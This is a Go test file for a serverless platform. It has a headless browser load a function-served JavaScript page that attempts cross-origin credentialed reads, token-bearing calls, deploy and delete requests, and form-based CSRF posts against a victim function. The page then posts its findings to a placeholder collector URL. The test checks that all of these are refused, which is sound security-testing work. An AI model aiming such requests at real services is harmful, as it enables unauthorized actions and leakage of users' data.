package server_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"lambent/client"
	"lambent/server/servertest"
)

// attack is a page that tries everything that a page may ask of a browser, and
// reports what came of it. The token, which no page has, stands for any credential
// that a browser might attach by itself.
const attack = `<!DOCTYPE html><body><script>
const api = "API", token = "TOKEN", out = {};
const attempts = {
  read: () => fetch(api + "/v1/functions", {credentials: "include"}).then(r => r.text()),
  readWithToken: () => fetch(api + "/v1/functions", {headers: {authorization: "Bearer " + token}}).then(r => r.text()),
  call: () => fetch(api + "/v1/functions/victim/invocations", {method: "POST", credentials: "include", body: "{}"}).then(r => r.text()),
  callWithToken: () => fetch(api + "/v1/functions/victim/invocations", {method: "POST", headers: {authorization: "Bearer " + token}, body: "{}"}).then(r => r.text()),
  deploy: () => fetch(api + "/v1/functions/victim", {method: "PUT", headers: {"content-type": "application/json"}, body: '{"description":"mine"}'}).then(r => r.text()),
  remove: () => fetch(api + "/v1/functions/victim", {method: "DELETE", headers: {authorization: "Bearer " + token}}).then(r => r.text()),
  opaque: () => fetch(api + "/v1/functions/victim/invocations", {method: "POST", mode: "no-cors", credentials: "include", body: "{}"}).then(r => { if (r.type != "opaque") return r.text(); throw Error("opaque") }),
  script: () => new Promise((ok, no) => { const e = document.createElement("script"); e.src = api + "/v1/openapi.json"; e.onload = () => ok("loaded"); e.onerror = () => no(Error("not loaded")); document.body.append(e) }),
  socket: () => new Promise((ok, no) => { const w = new WebSocket(api.replace("http", "ws") + "/v1/functions"); w.onopen = () => ok("open"); w.onerror = () => no(Error("not open")) }),
};
for (const kind of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
  attempts["form " + kind] = () => new Promise((_, no) => {
    const frame = document.createElement("iframe"); frame.name = kind; document.body.append(frame);
    const form = document.createElement("form");
    form.action = api + "/v1/functions/victim/invocations"; form.method = "post"; form.enctype = kind; form.target = kind;
    form.innerHTML = '<input name="a" value="b">'; document.body.append(form);
    let loads = 0; frame.onload = () => { try { frame.contentDocument && frame.contentDocument.URL != "about:blank" ? _(frame.contentDocument.body.innerText) : (++loads > 1 && no(Error("empty"))) } catch (e) { no(e) } };
    form.submit(); setTimeout(() => no(Error("no answer that can be read")), 2000);
  });
(async () => {
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try { out[name] = "GOT " + await attempt() } catch (e) { out[name] = "refused: " + e }
  }));
  navigator.sendBeacon(api + "/v1/functions/victim/invocations", "{}");
  await fetch("REPORT", {method: "POST", body: JSON.stringify(out)});
})();
</script><noscript><img src="REPORT?noscript"></noscript>`

// TestBrowser has a real browser open a page that a function serves.
func TestBrowser(t *testing.T) {
	program := browser(t)
	s := servertest.Start(t)
	s.Python(t, "victim", hello)
	before, err := s.Client.Function(t.Context(), "victim")
	if err != nil {
		t.Fatal(err)
	}
	reports := make(chan string, 10)
	collector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if b, _ := io.ReadAll(r.Body); len(b) > 0 {
			reports <- string(b)
		} else if r.URL.RawQuery != "" {
			reports <- r.URL.RawQuery
		}
	}))
	t.Cleanup(collector.Close)
	// The API by the name that makes it the same site, and by the page's own origin.
	page := strings.NewReplacer("TOKEN", s.Token, "REPORT", collector.URL).Replace(attack)
	for name, api := range map[string]string{"site": "http://localhost:" + s.Port(), "address": s.URL()} {
		source, err := json.Marshal(strings.ReplaceAll(page, "API", api))
		if err != nil {
			t.Fatal(err)
		}
		s.Python(t, name, "def handler(event, context):\n    return {'statusCode': 200, 'headers': {'content-type': 'text/html'}, 'body': "+string(source)+"}\n")
	}
	for _, name := range []string{"site", "address"} {
		t.Run("own host, "+name, func(t *testing.T) {
			report := visit(t, program, "http://"+name+".fn.localhost:"+s.Port()+"/", reports)
			var results map[string]string
			if err := json.Unmarshal([]byte(report), &results); err != nil || len(results) < 12 {
				t.Fatalf("the page reports %q, %v", report, err)
			}
			for attempt, result := range results {
				if !strings.HasPrefix(result, "refused: ") {
					t.Errorf("%s: %s", attempt, result)
				}
			}
		})
	}
	t.Run("path", func(t *testing.T) {
		if got := visit(t, program, s.URL()+"/fn/address/", reports); got != "noscript" {
			t.Errorf("a page of a path that shares our origin ran a script, which reports %s", got)
		}
	})
	after, err := s.Client.Function(t.Context(), "victim")
	if err != nil || after.Revision != before.Revision {
		t.Errorf("a page changed the function: %v, %v", after, err)
	}
	calls, err := s.Client.Invocations(t.Context(), "victim", client.Period{}, 10)
	if err != nil || len(calls.Invocations) > 0 {
		t.Errorf("a page called the function: %v, %v", calls, err)
	}
}

// visit opens a page until it has reported.
func visit(t *testing.T, program, url string, reports <-chan string) string {
	t.Helper()
	cmd := exec.Command(program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--remote-debugging-port=0", "--user-data-dir="+filepath.Join(t.TempDir(), "profile"), url)
	var said strings.Builder
	cmd.Stdout, cmd.Stderr = &said, &said
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.WaitDelay = time.Second
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
		if t.Failed() {
			t.Logf("%s says: %s", program, said.String())
		}
	}()
	select {
	case r := <-reports:
		return r
	case <-time.After(60 * time.Second):
		t.Fatalf("%s has not reported from %s", program, url)
		return ""
	}
}

func browser(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	servertest.Missing(t, "there is no chromium: apt-get install chromium")
	return ""
}
